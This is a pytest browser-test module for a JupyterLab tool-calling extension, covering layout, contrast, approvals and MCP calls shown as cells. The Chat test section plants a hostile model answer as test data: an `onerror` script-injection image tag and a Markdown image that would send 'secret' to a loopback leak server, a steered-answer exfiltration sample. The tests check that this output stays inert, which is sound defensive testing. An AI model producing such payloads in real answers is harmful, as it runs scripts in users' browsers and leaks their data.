"""The panel, the table and the approval prompt in a real JupyterLab, in headless Chromium.

Needs the `playwright` and `jupyterlab` Python packages and Debian's `chromium` (`apt-get install -y
chromium`); without them every test here is skipped with a message saying what is missing. A
35-tool notebook is run in JupyterLab; checked: no button's text is cut ("schema" was "sche…"), nor the
filter's placeholder, destructive tools are marked in the `%tools` table, text
contrast at least 4.5:1 (WCAG AA) in JupyterLab Light and Dark, the filter finds tools by name,
group, hint and description in any case, and a decided approval is still shown, as static output,
after the notebook is saved and reopened without its kernel.

A second notebook replays a Chat offline (a cassette recorded here against tests/recorded_model.py):
one tool call that fails, then an answer a hostile page could have steered (`<img src=x onerror=...>`
and a Markdown image of a loopback "leak" server's URL). Checked: the step's header, error label and
text at least 4.5:1 against their actual background in Light and Dark; the step text wraps between
words only; the answer shown once though `chat(...)` is the cell's last line; no script ran, no
<img> in the answer, and the leak server received nothing (and does record a request sent to it).
A third notebook (the 35 tools, a long-named destructive one in a group of its own, two disabled)
is looked at 1,000 and 1,400 px wide in Light and Dark, a screenshot of each in the test's tmp_path:
every panel row ends its description before its "details" button, keeps the button inside the output
area and its checkbox, name, badges and button on one line; every text of the panel and the `%tools`
table, disabled tools' and the `destructive` chip included, is at least 4.5:1 against what is really
behind it (backgrounds and opacities composited); the table is no wider than its output area and no
cell cuts its text.

A fourth notebook serves its kernel with `%tools --serve --cells` (JupyterLab's real-time
collaboration is on, as jupyter-collaboration is installed): an MCP SDK client calls `add` and a
`python()` run through the server extension, and the person's open notebook shows each as a new cell
at its end, `python()`'s first printed line while the call still runs, then its whole output.

A fifth notebook shows a destructive call's approval denied with a reason, one approved, a prompt still
open with an invalid edit's message, and an MCP activity log with a row in each status: every text of
them at least 4.5:1 against what is really behind it in Light and Dark, and in the same HTML outside
JupyterLab (no theme variables, as nbviewer shows it).

One JupyterLab serves all five, one Chromium shows them; its settings (the theme) are kept in a
temporary folder. Each notebook opens in a reset workspace.
"""

from __future__ import annotations

import importlib.util
import json
import linecache
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
MISSING = [name for name in ("playwright", "jupyterlab") if importlib.util.find_spec(name) is None]
if CHROMIUM is None:
    MISSING.append("Debian's chromium (apt-get install -y chromium)")
pytestmark = pytest.mark.skipif(bool(MISSING), reason=f"browser test needs {', '.join(MISSING)}")

GROUPS = [("notes", "--hints read-only"), ("files", "--hints destructive"), ("web", "--hints read-only open-world"),
          ("math", "--hints idempotent"), ("calendar", "")]


def tool_cells() -> list:
    """35 tools in five groups, one `%%tool` cell per group."""
    cells = []
    for group, hints in GROUPS:
        body = "\n".join(
            f"def {group}_action_{i}(query: str, include_history: bool = False, limit: int = 10) -> str:\n"
            f"    \"Do the {group} thing number {i}: a description long enough to wrap in a narrow notebook.\"\n"
            f"    return query\n" for i in range(7))
        cells.append(nbformat.v4.new_code_cell(f"%%tool --group {group} {hints}\n{body}"))
    return cells


def written(path: Path, cells: list) -> Path:
    """`cells` written as the notebook `path`, for a Python 3 kernel."""
    notebook = nbformat.v4.new_notebook(cells=cells)
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(notebook, path)
    return path


def demo_notebook(folder: Path) -> Path:
    """35 tools in five groups, the panel, the table, one decided approval."""
    cells = [nbformat.v4.new_code_cell("%load_ext nbtools"), *tool_cells()]
    cells += [
        nbformat.v4.new_code_cell("from nbtools import registry\nregistry.disable('notes_action_1')\n"
                                  "import nbtools\nnbtools.panel()"),
        nbformat.v4.new_code_cell("%tools -g notes"),
        nbformat.v4.new_code_cell("%tools -g files"),
        nbformat.v4.new_code_cell(
            "import asyncio\nfrom nbtools.approval import ApprovalPrompt\nregistry.approve = prompt = ApprovalPrompt(timeout=120)\n"
            "pending = asyncio.ensure_future(registry.acall('files_action_1', {'query': 'report.txt'}))\n"
            "await asyncio.sleep(0.5)\nprompt.deny_button.click()\ntry:\n    await pending\n"
            "except Exception as error:\n    print(error)"),
    ]
    return written(folder / "demo.ipynb", cells)


# A tool with a long name and a long parameter list, in a group of its own (rows like it sat off their
# line in the panel, and the table cut its name and ran past the output area).
LONG_NAME = "archive_every_quarterly_report_into_cold_storage_and_notify_each_owner"
LONG_TOOL = (f"%%tool --group archive --hints destructive\n"
             f"def {LONG_NAME}(quarter: str, regions: list[str], keep_local_copies: bool = False,\n"
             f"        notification_template_name: str = 'quarterly-archive-notice-for-regional-owners',\n"
             f"        retention_policy_identifier: str = 'seven-years-then-delete-unless-under-legal-hold') -> str:\n"
             f"    \"Move every report of the quarter to cold storage, then tell each owner where it went and for how long.\"\n"
             f"    return quarter")


def layout_notebook(folder: Path) -> Path:
    """The 35 tools and the long one, two of them disabled (one destructive), the panel and the whole `%tools` table."""
    cells = [nbformat.v4.new_code_cell("%load_ext nbtools"), *tool_cells()]
    cells += [nbformat.v4.new_code_cell(LONG_TOOL),
              nbformat.v4.new_code_cell("from nbtools import registry\nregistry.disable('notes_action_1')\n"
                                        "registry.disable('files_action_2')\nimport nbtools\nnbtools.panel()"),
              nbformat.v4.new_code_cell("%tools")]
    return written(folder / "layout.ipynb", cells)


# The Chat notebook: one tool that fails (its error shown in the step view, long enough to wrap) and a
# final answer a hostile page could have steered: HTML with a script and a Markdown image carrying data out.
CHAT_TOOL = '''def lookup(name: str) -> str:
    "Look a report up by its name."
    raise ValueError("no report named " + name + " in the archive; Supercalifragilisticexpialidocious " * 3)
'''
ANSWER_MARK = "Answer-mark-7f3"
LONG_WORD = "Supercalifragilisticexpialidocious"
CHAT_SETUP = "Chat(nbtools.replay('chat.cassette.json'), model='test-model', tools=[lookup], system='Be brief.')"
QUESTION = "Look up the q3 report."


def chat_notebook(folder: Path, leak_port: int) -> Path:
    """A cassette recorded here against a loopback model (tests/recorded_model.py), and a notebook
    that replays it (no network): the step view, then the hostile answer from the cell's last line."""
    sys.path.insert(0, str(ROOT / "tests"))
    import openai
    from nbtools import Chat
    from recorded_model import RecordedModel, openai_reply

    hostile = (f'{ANSWER_MARK}. <img src=x onerror="window.nbtoolsPwned = 1"> '
               f'![x](http://127.0.0.1:{leak_port}/leak?d=secret)')
    tool: dict = {}
    # The tool's error names its line with the line's text, as from the notebook's cell (linecache)
    linecache.cache["<chat-tool>"] = (len(CHAT_TOOL), None, CHAT_TOOL.splitlines(keepends=True), "<chat-tool>")
    exec(compile(CHAT_TOOL, "<chat-tool>", "exec"), tool)
    with RecordedModel([(200, openai_reply([("call_1", "lookup", {"name": "q3"})])),
                        (200, openai_reply(text=hostile))]) as model:
        chat = Chat(openai.OpenAI(api_key="sk-test", base_url=f"{model.url}/v1", max_retries=0), model="test-model",
                    tools=[tool["lookup"]], system="Be brief.", record=folder / "chat.cassette.json", show=False)
        assert chat(QUESTION) == hostile
    cells = [nbformat.v4.new_code_cell(CHAT_TOOL.rstrip("\n")),  # its own cell: the error names the same line
             nbformat.v4.new_code_cell(f"import nbtools\nfrom nbtools import Chat\n\nchat = {CHAT_SETUP}"),
             nbformat.v4.new_code_cell(f"chat({QUESTION!r})")]
    return written(folder / "chat.ipynb", cells)


# The agent notebook: two tools served with --cells (no approval policy: the calls run as they come).
AGENT_TOOLS = """import nbtools
from nbtools import python

def add(a: int, b: int) -> int:
    "Add two integers."
    return a + b"""


def agent_notebook(folder: Path) -> Path:
    cells = [nbformat.v4.new_code_cell("%load_ext nbtools"), nbformat.v4.new_code_cell(AGENT_TOOLS),
             nbformat.v4.new_code_cell("%tool add\n%tool python"),
             nbformat.v4.new_code_cell("%tools --serve --cells")]
    return written(folder / "agent.ipynb", cells)


# The colours notebook: approval prompts for a destructive tool (one denied with a reason, one approved,
# one still open showing an invalid edit's message) and an MCP activity log with a row in every status.
COLOUR_TOOLS = """import asyncio
from nbtools import Registry
from nbtools.approval import ApprovalPrompt

notes = Registry()

def delete_note(title: str) -> str:
    "Delete a note for good (no undo)."
    return f"deleted {title}"

notes.add(delete_note, hints="destructive")
notes.approve = prompt = ApprovalPrompt(timeout=3600)

async def ask(arguments, answer):
    \"Ask for `arguments`, then answer as a person would (`answer(prompt)` clicks).\"
    pending = asyncio.ensure_future(notes.acall("delete_note", arguments, raise_on_err=False))
    while prompt.widget is None or prompt.record is not None:
        await asyncio.sleep(0.05)
    answer(prompt)
    return pending"""

DENIED = """def deny(p):
    p.reason.value = "keep it; archive instead"
    p.deny_button.click()

print(await (await ask({"title": "ideas"}, deny)))"""

APPROVED = "print(await (await ask({'title': 'old drafts'}, lambda p: p.approve_button.click())))"

# Left open (the clock counts down from an hour): Edit, an argument of the wrong type, Approve -> the message.
INVALID_EDIT = """def invalid_edit(p):
    p.edit_button.click()
    p.editor.value = '{"title": 5}'
    p.approve_button.click()

still_open = await ask({"title": "shopping list"}, invalid_edit)"""

ACTIVITY_LOG = """from nbtools.errors import CallRefused, ToolCallError
from nbtools.mcp.activity import Activity, ActivityView
from nbtools.mcp.toolresults import error_result, success_result

log = Activity()
log.end(log.begin("claude-code", "add", {"a": 2, "b": 3}), success_result(None, 5, 10_000))
log.end(log.begin("claude-code", "lookup", {"name": "q3"}), error_result(ToolCallError("lookup", "no report named q3")))
log.end(log.begin("claude-code", "delete_note", {"title": "ideas"}),
        error_result(CallRefused("delete_note", "refused: the user denied this call")))
log.end(log.begin("claude-code", "python", {"code": "train()"}), cancelled=True)
log.end(log.begin("cursor", "notes://missing", None, kind="resource"), error=ValueError("no note named missing"))
for status, outcome in [("working", ""), ("input required", "waiting for the client's answers (name)"),
                        ("completed", "fitted in 2.0 s"), ("failed", "the fit diverged")]:
    log.state(log.begin("cursor", "long_fit", {"seconds": 2}, kind="task"), status, outcome)
log.begin("claude-code", "python", {"code": "fit()"})  # still running
ActivityView(log)"""
ACTIVITY_STATUSES = ("ok", "error", "refused", "cancelled", "working", "input required", "completed", "failed",
                     "running")


def colours_notebook(folder: Path) -> Path:
    return written(folder / "colours.ipynb", [nbformat.v4.new_code_cell(source) for source in (
        COLOUR_TOOLS, DENIED, APPROVED, INVALID_EDIT, ACTIVITY_LOG)])


def contrast(foreground: list[float], background: list[float]) -> float:
    """WCAG contrast ratio of two sRGB colours (0-255)."""
    def luminance(rgb: list[float]) -> float:
        channels = [c / 255 for c in rgb[:3]]
        linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]
    high, low = sorted((luminance(foreground), luminance(background)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def rgba(text: str) -> list[float]:
    numbers = [float(x) for x in re.findall(r"[\d.]+", text)]
    return numbers + [1.0] * (4 - len(numbers))


def over(foreground: list[float], background: list[float]) -> list[float]:
    alpha = foreground[3]
    return [foreground[i] * alpha + background[i] * (1 - alpha) for i in range(3)]


@pytest.fixture(scope="module")
def leak():
    """A loopback HTTP server that keeps the path of every request it gets (nothing should reach it)."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            seen.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def lab(tmp_path_factory, leak):
    folder = tmp_path_factory.mktemp("lab")
    demo_notebook(folder)
    layout_notebook(folder)
    chat_notebook(folder, leak[0])
    agent_notebook(folder)
    colours_notebook(folder)
    # JupyterLab's question "get notified about official Jupyter news?" covered the screenshots: answered "Never"
    news = folder / "settings" / "@jupyterlab" / "apputils-extension" / "notification.jupyterlab-settings"
    news.parent.mkdir(parents=True)
    news.write_text('{"fetchNews": "false"}')
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(ROOT), os.environ.get("PYTHONPATH")])),
                   # the theme switches are saved here, not in the user's own JupyterLab settings
                   "JUPYTERLAB_SETTINGS_DIR": str(folder / "settings"),
                   "JUPYTERLAB_WORKSPACES_DIR": str(folder / "workspaces")}
    server = subprocess.Popen([sys.executable, "-m", "jupyter", "lab", "--no-browser", f"--port={port}",
                               "--ip=127.0.0.1", "--IdentityProvider.token=browser-test",
                               "--LabApp.expose_app_in_browser=True", f"--ServerApp.root_dir={folder}", "--allow-root"],
                              env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              start_new_session=True,  # its own process group: the kernels it starts go with it
                              cwd=folder)  # what it writes beside it (collaboration's .jupyter_ystore.db) stays there
    try:
        for _ in range(240):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                time.sleep(0.5)
        yield f"http://127.0.0.1:{port}/lab/tree/{{}}?token=browser-test"
    finally:  # always: terminate, and kill what has not ended after a few seconds (kernels included)
        _end_group(server, signal.SIGTERM)
        try:
            server.wait(5)
        except subprocess.TimeoutExpired:
            pass
        _end_group(server, signal.SIGKILL)  # whatever is left of the group (a kernel JupyterLab left)
        server.wait(10)


def _end_group(server: subprocess.Popen, signum: int) -> None:
    try:
        os.killpg(server.pid, signum)
    except (ProcessLookupError, PermissionError):
        pass


@pytest.fixture(scope="module")
def browser():
    """One headless Chromium (Debian's) for every test here: Playwright's sync API runs one at a time."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            yield browser
        finally:
            browser.close()


def test_panel_table_and_approval_in_jupyterlab(lab, browser):
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    try:
        _check_lab(page, lab.format("demo.ipynb"))
    finally:
        page.close()


def _check_lab(page, lab) -> None:
    """Everything the test checks, in `page` (closed by the caller, whatever happens)."""
    app = "window.jupyterapp"
    _open_and_run(page, lab)
    page.wait_for_selector("text=Approval for", timeout=120_000)
    panel = page.locator(".widget-vbox:has(.widget-text)").first
    panel.wait_for(timeout=60_000)
    time.sleep(2)
    # 1. In both themes: no control cut short, text contrast at least 4.5:1.
    for theme in ("JupyterLab Light", "JupyterLab Dark"):
        page.evaluate(f"{app}.commands.execute('apputils:change-theme', {{theme: '{theme}'}})")
        time.sleep(3)
        cut = page.evaluate("() => [...document.querySelectorAll('.widget-toggle-button, .widget-button')]"
                            ".filter(b => b.scrollWidth > b.clientWidth + 1).map(b => b.textContent)")
        assert cut == [], f"{theme}: buttons cut short: {cut}"
        colours = page.evaluate("""() => {
            const background = getComputedStyle(document.querySelector('.jp-Notebook')).backgroundColor;
            const texts = [...document.querySelectorAll(
                '.widget-html-content span, .widget-html-content code, .widget-html-content div, .jp-RenderedHTMLCommon td')]
                .filter(e => e.textContent.trim() && !e.closest('[style*="opacity"]')
                             && !(e.getAttribute('style') || '').includes('background'));
            return {background, texts: texts.map(e => [getComputedStyle(e).color, e.textContent.slice(0, 40)])};
        }""")
        background = rgba(colours["background"])
        worst = min((contrast(over(rgba(colour), background), background), text) for colour, text in colours["texts"])
        assert worst[0] >= 4.5, f"{theme}: contrast {worst[0]:.2f} for {worst[1]!r}"
    # The filter's placeholder fits its box whole (it was cut to "…descriptior").
    width, room, placeholder = page.evaluate("""() => {
        const input = document.querySelector('.widget-text input');
        const style = getComputedStyle(input);
        const measure = document.createElement('canvas').getContext('2d');
        measure.font = style.font;
        return [measure.measureText(input.placeholder).width,
                input.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight),
                input.placeholder];
    }""")
    assert placeholder and width <= room, f"placeholder {placeholder!r} cut: {width:.0f}px in {room:.0f}px"
    # Destructive tools are marked in the %tools table (⚠ and the hint in red), read-only ones not.
    marked = page.evaluate("""() => [...document.querySelectorAll('.jp-RenderedHTMLCommon tr')]
        .filter(row => row.textContent.includes('_action_'))
        .map(row => [row.querySelector('td code').textContent, row.textContent.includes('⚠')])""")
    assert marked and all(flag == name.startswith("files_") for name, flag in marked), marked
    # 2. The filter: name, group, hint, description, any case; an empty result says how to clear.
    status = page.locator(".widget-vbox:has(.widget-text) >> text=/tools shown|No tool matches/").first
    box = page.locator(".widget-text input").first
    for text, shown in [("NOTES_ACTION", "7 of 35"), ("Calendar", "7 of 35"), ("DESTRUCTIVE", "7 of 35"),
                        ("Thing Number 3", "5 of 35"), ("zzz", "No tool matches 'zzz'")]:
        box.fill(text)
        for _ in range(40):  # the kernel answers the keystrokes in its own time
            if shown in (seen := status.text_content() or ""):
                break
            time.sleep(0.5)
        assert shown in seen, f"filter {text!r}: {seen!r}"
    assert "clear the Filter box" in status.text_content()
    box.fill("")
    # 3. Save, shut the kernel down, reopen: the decided approval is still there, as static output.
    page.evaluate(f"{app}.commands.execute('docmanager:save')")
    time.sleep(3)
    page.evaluate(f"{app}.commands.execute('kernelmenu:shutdown')")
    time.sleep(3)
    page.reload()
    page.wait_for_selector(".jp-Notebook", timeout=60_000)
    record = page.locator(".jp-OutputArea-output:has-text('Approval for')").first
    record.wait_for(timeout=60_000)
    assert "files_action_1" in record.text_content() and "Denied." in record.text_content()
    assert "report.txt" in record.text_content()


def test_chat_steps_and_a_hostile_answer_in_jupyterlab(lab, leak, browser):
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    try:
        _check_chat(page, lab.format("chat.ipynb"), leak)
    finally:
        page.close()


def _background(layers: list[str]) -> list[float]:
    """The colour behind an element: its ancestors' backgrounds (nearest first) composited, white below all."""
    colour = [255.0, 255.0, 255.0]
    for layer in reversed(layers):
        colour = over(rgba(layer), colour)
    return colour


def _check_chat(page, url: str, leak) -> None:
    """The Chat step view (contrast in both themes, words whole, the answer once) and the hostile answer inert."""
    leak_port, leak_seen = leak
    app = "window.jupyterapp"
    _open_and_run(page, url)
    page.wait_for_selector(f".jp-OutputArea-output:has-text('{ANSWER_MARK}')", timeout=120_000)
    page.wait_for_selector(".nbtools-step", timeout=60_000)
    time.sleep(3)  # anything the answer could have triggered (an image load, an onerror) has had its chance
    # The answer is shown once, though `chat(...)` is the cell's last line.
    shown = page.evaluate(f"""() => [...document.querySelectorAll('.jp-OutputArea-output')]
        .filter(o => o.textContent.includes('{ANSWER_MARK}')).length""")
    assert shown == 1, f"the final answer is shown {shown} times"
    # The hostile answer is inert: no script ran, no <img> in it, nothing fetched from the leak server.
    inert = page.evaluate(f"""() => {{
        const answer = [...document.querySelectorAll('.jp-OutputArea-output')]
            .find(o => o.textContent.includes('{ANSWER_MARK}'));
        return {{pwned: window.nbtoolsPwned === undefined ? null : window.nbtoolsPwned,
                 images: answer.querySelectorAll('img').length,
                 anyImage: [...document.querySelectorAll('img')].map(i => i.src).filter(s => s.includes('leak') || s.endsWith('/x')),
                 text: answer.textContent,
                 links: [...answer.querySelectorAll('a')].map(a => a.href)}};
    }}""")
    assert inert["pwned"] is None, f"the answer's onerror ran: {inert}"
    assert inert["images"] == 0 and inert["anyImage"] == [], f"the answer made images: {inert}"
    assert '<img src=x onerror="window.nbtoolsPwned = 1">' in inert["text"], inert  # shown as text, not lost
    assert any(f"127.0.0.1:{leak_port}/leak" in link for link in inert["links"]), inert  # a link to click, at most
    assert leak_seen == [], f"the page fetched from the leak server: {leak_seen}"
    with socket.create_connection(("127.0.0.1", leak_port), timeout=5) as control:  # the server does record
        control.sendall(b"GET /control HTTP/1.0\r\n\r\n")
        control.recv(100)
    assert leak_seen == ["/control"], leak_seen
    # In both themes: the step's header, error label and text at least 4.5:1 against what is behind them.
    measured = {}
    for theme in ("JupyterLab Light", "JupyterLab Dark"):
        page.evaluate(f"{app}.commands.execute('apputils:change-theme', {{theme: '{theme}'}})")
        time.sleep(3)
        parts = page.evaluate("""() => {
            const step = document.querySelector('.nbtools-step');
            const label = [...step.querySelectorAll('div')].find(d => d.textContent.trim() === 'error:');
            const texts = [['step', step.querySelector('b')], ['error label', label], ['error text', step.querySelector('pre')]];
            return texts.map(([name, e]) => {
                const layers = [];
                for (let a = e; a; a = a.parentElement) layers.push(getComputedStyle(a).backgroundColor);
                return [name, getComputedStyle(e).color, layers];
            });
        }""")
        for name, colour, layers in parts:
            background = _background(layers)
            ratio = contrast(over(rgba(colour), background), background)
            measured[f"{theme}: {name}"] = round(ratio, 2)
        print("contrast", theme, {k: v for k, v in measured.items() if k.startswith(theme)})
        low = {name: ratio for name, ratio in measured.items() if ratio < 4.5}
        assert not low, f"contrast below 4.5:1: {low}"
    # No word broken inside: the step text wraps (several lines) but only between words.
    wrap = page.evaluate(f"""() => {{
        const pre = document.querySelector('.nbtools-step pre');
        const style = getComputedStyle(pre);
        const node = pre.firstChild;
        const lines = new Set();
        for (const r of pre.getClientRects()) lines.add(r.height);
        const split = [];
        let at = node.textContent.indexOf('{LONG_WORD}');
        while (at >= 0) {{
            const range = document.createRange();
            range.setStart(node, at);
            range.setEnd(node, at + {len(LONG_WORD)});
            const tops = new Set([...range.getClientRects()].map(r => Math.round(r.top)));
            if (tops.size !== 1) split.push(at);
            at = node.textContent.indexOf('{LONG_WORD}', at + 1);
        }}
        const lineHeight = parseFloat(style.lineHeight) || parseFloat(style.fontSize) * 1.3;
        return {{wordBreak: style.wordBreak, overflowWrap: style.overflowWrap, split,
                 lines: Math.round(pre.getBoundingClientRect().height / lineHeight)}};
    }}""")
    assert wrap["wordBreak"] in ("normal", "keep-all") and wrap["overflowWrap"] in ("break-word", "anywhere"), wrap
    assert wrap["lines"] >= 2 and wrap["split"] == [], f"the step text: {wrap}"


# -- the agent's calls, appearing as cells in the open notebook --------------------------------------

def test_an_agents_calls_appear_as_cells_in_jupyterlab(lab, browser, tmp_path):
    """agent.ipynb open in JupyterLab, its kernel serving with `--cells`: an MCP client's `add` call
    appears at the notebook's end as the cell `add(a=2, b=3)` showing 5; a `python()` run appears as a
    cell of its code showing its first printed line while it still runs, then all its output.
    Screenshots of both moments in tmp_path."""
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    try:
        _check_agent_cells(page, lab.format("agent.ipynb"), tmp_path)
    finally:
        page.close()


def _call_tool(lab_url: str, name: str, arguments: dict):
    """One `tools/call` by the MCP SDK's client through the server extension, as an agent makes it
    (on a thread of its own: Playwright's sync API keeps an event loop running on this one)."""
    import anyio
    from test_jupyter_server import mcp_session

    url = lab_url.split("/lab/", 1)[0] + "/nbtools/mcp/notebooks/agent.ipynb"

    async def client():
        async with await mcp_session(url, "2025-11-25", {"Authorization": "token browser-test"}) as session:
            with anyio.fail_after(120):
                return await session.call_tool(name, arguments)
    answer: dict = {}
    caller = threading.Thread(target=lambda: answer.update(result=anyio.run(client)))
    caller.start()
    caller.join(150)
    assert "result" in answer, f"the MCP client's {name} call did not come back"
    return answer["result"]


# The text of the notebook's cells as the page shows them: (the input's lines, the outputs' text).
_SHOWN_CELLS = """() => [...document.querySelectorAll('.jp-Notebook .jp-CodeCell')].map(cell => [
    [...cell.querySelectorAll('.jp-InputArea .cm-line')].map(line => line.textContent).join('\\n'),
    [...cell.querySelectorAll('.jp-OutputArea-output')].map(output => output.innerText).join('\\n')])"""


def _wait_for_cell(page, source: str, shown: str, what: str) -> str:
    """The outputs' text of the cell of `source` once it holds `shown` (the page scrolled to its end)."""
    deadline = time.monotonic() + 120
    cells: list = []
    while time.monotonic() < deadline:
        page.evaluate("() => { const cells = document.querySelectorAll('.jp-Notebook .jp-Cell');"
                      " cells[cells.length - 1].scrollIntoView({block: 'end'}); }")
        cells = page.evaluate(_SHOWN_CELLS)
        for text, outputs in cells:
            if text == source and shown in outputs:
                return outputs
        time.sleep(0.25)
    raise AssertionError(f"JupyterLab never showed {what}; its cells: {cells}")


def _check_agent_cells(page, url: str, folder: Path) -> None:
    _open_and_run(page, url)
    page.wait_for_selector(".jp-OutputArea-output:has-text('written as a cell at the end of agent.ipynb')",
                           timeout=120_000)
    before = page.evaluate(_SHOWN_CELLS)
    assert len(before) == 4, before
    # 1. A tool call: the cell that repeats it, and its result.
    assert _call_tool(url, "add", {"a": 2, "b": 3}).structured_content == {"result": 5}
    assert _wait_for_cell(page, "add(a=2, b=3)", "5", "add's cell").strip() == "5"
    # 2. python(): its first line shown while it runs, the rest at its end.
    signal_file = folder / "go"
    code = (f"import pathlib, time\nprint('agent says hello')\nfor _ in range(2400):\n"
            f"    if pathlib.Path({str(signal_file)!r}).exists(): break\n    time.sleep(0.05)\n"
            "print('and goodbye')\n6 * 7")
    answer: dict = {}
    caller = threading.Thread(target=lambda: answer.update(result=_call_tool(url, "python", {"code": code})))
    caller.start()
    try:
        running = _wait_for_cell(page, code, "agent says hello", "python()'s first line while it runs")
        assert "and goodbye" not in running, running
        page.screenshot(path=str(folder / "agent-cell-running.png"))
    finally:
        signal_file.write_text("go")
        caller.join(150)
    assert "result" in answer and not answer["result"].is_error, answer
    done = _wait_for_cell(page, code, "42", "python()'s whole output")
    assert done.split() == ["agent", "says", "hello", "and", "goodbye", "42"], done
    page.screenshot(path=str(folder / "agent-cell-done.png"))
    shown = page.evaluate(_SHOWN_CELLS)
    assert [text for text, _ in shown] == [text for text, _ in before] + ["add(a=2, b=3)", code], shown


# -- the layout notebook at 1,000 and 1,400 px, in both themes ---------------------------------------

THEMES = ("JupyterLab Light", "JupyterLab Dark")
VIEWS = [(width, theme) for width in (1000, 1400) for theme in THEMES]


@pytest.fixture(scope="module")
def layout_page(lab, browser):
    """layout.ipynb run in one page (the tests below resize it and switch its theme)."""
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    try:
        _open_and_run(page, lab.format("layout.ipynb"))
        page.wait_for_selector(f".jp-RenderedHTMLCommon td:has-text('{LONG_NAME}')", timeout=120_000)
        page.wait_for_function("document.querySelectorAll('.widget-checkbox').length >= 36", timeout=60_000)
        time.sleep(2)
        yield page
    finally:
        page.close()


def _open_and_run(page, url: str) -> None:
    """Open the notebook `url` names and run all its cells, once its kernel is there. The workspace is
    reset (`&reset`): a previous test's notebook, restored beside this one and current at first, was
    the one run (its kernel answered the wait), and the test then waited for outputs that never came."""
    app = "window.jupyterapp"
    path = url.split("/tree/", 1)[1].split("?", 1)[0]
    page.goto(f"{url}&reset")
    current = f"{app}.shell.currentWidget"
    page.wait_for_function(f"{app} && {current} && {current}.context && {current}.context.path === '{path}'"
                           f" && {current}.sessionContext.session && {current}.sessionContext.session.kernel",
                           timeout=120_000)
    time.sleep(2)
    page.evaluate(f"{app}.commands.execute('notebook:run-all-cells')")


def _view(page, width: int, theme: str) -> None:
    """Resize the page to `width` and switch to `theme`; return once the theme's styles apply."""
    page.set_viewport_size({"width": width, "height": 1000})
    if page.evaluate("document.body.dataset.jpThemeName") != theme:
        page.evaluate(f"window.jupyterapp.commands.execute('apputils:change-theme', {{theme: '{theme}'}})")
        page.wait_for_function(f"document.body.dataset.jpThemeName === '{theme}'", timeout=30_000)
    time.sleep(1.5)  # the theme's stylesheet and the notebook's relayout


def _shoot(page, selector: str, path: Path) -> None:
    """A screenshot of the page with the output `selector` finds scrolled to the top (the notebook
    scrolls inside the page: an element's own screenshot of a tall output comes out garbled)."""
    page.locator(selector).first.evaluate("e => e.scrollIntoView({block: 'start'})")
    time.sleep(0.5)
    page.screenshot(path=str(path))


# The two outputs: a Playwright selector (for screenshots) and a JavaScript expression (for measures).
PANEL_OUTPUT = ".jp-OutputArea-output:has(.widget-checkbox)"
TABLE_OUTPUT = f".jp-OutputArea-output:has(table):has-text('{LONG_NAME}')"
OUTPUTS = {PANEL_OUTPUT: f"document.querySelector('{PANEL_OUTPUT}')",
           TABLE_OUTPUT: "[...document.querySelectorAll('.jp-OutputArea-output:has(table)')]"
                         f".find(o => o.textContent.includes('{LONG_NAME}'))"}


def _summed_up(problems: list[str], folder: Path) -> str:
    """The first three problems of each kind (the words after the last colon, figures left out), and the counts."""
    kinds: dict[str, list[str]] = {}
    for problem in problems:
        kinds.setdefault(re.sub(r"[\d.]+px", "Npx", problem.rsplit(": ", 1)[-1]), []).append(problem)
    return "\n".join(["\n".join(found[:3]) + f"\n  ({len(found)} like these)" for found in kinds.values()]
                     + [f"screenshots in {folder}"])


def test_panel_rows_fit_their_width(layout_page, tmp_path):
    """At 1,000 and 1,400 px, in both themes: in every row the description ends before the "details"
    button, the button lies inside the output area, and the name, badges and description share one
    baseline (rows of a long name, or of a group of their own, sat 2 px off)."""
    page = layout_page
    problems = []
    for width, theme in VIEWS:
        _view(page, width, theme)
        _shoot(page, PANEL_OUTPUT, tmp_path / f"panel-{width}-{theme.split()[-1].lower()}.png")
        rows = page.evaluate("""() => {
            const output = """ + OUTPUTS[PANEL_OUTPUT] + """;
            const edge = output.getBoundingClientRect().right;
            const baseline = e => {  // where an empty inline-block sits: the element's first baseline
                const probe = document.createElement('span');
                probe.style.cssText = 'display:inline-block;width:0;height:0';
                e.prepend(probe);
                const y = probe.getBoundingClientRect().bottom;
                probe.remove();
                return y;
            };
            return [...output.querySelectorAll('.widget-hbox:has(> .widget-checkbox)')].map(line => {
                const name = line.querySelector('.widget-html-content code');
                const parts = [...line.querySelector('.widget-html-content > div').children];
                const button = line.querySelector('.widget-toggle-button').getBoundingClientRect();
                const text = parts[parts.length - 1].getBoundingClientRect();
                const box = line.querySelector('.widget-checkbox input').getBoundingClientRect();
                const rows = line.closest('.widget-vbox').parentElement;
                const baselines = parts.map(baseline);
                return {name: name.textContent.split('(')[0], textRight: text.right, buttonLeft: button.left,
                        buttonRight: button.right, edge: Math.min(edge, rows.getBoundingClientRect().left + rows.clientWidth),
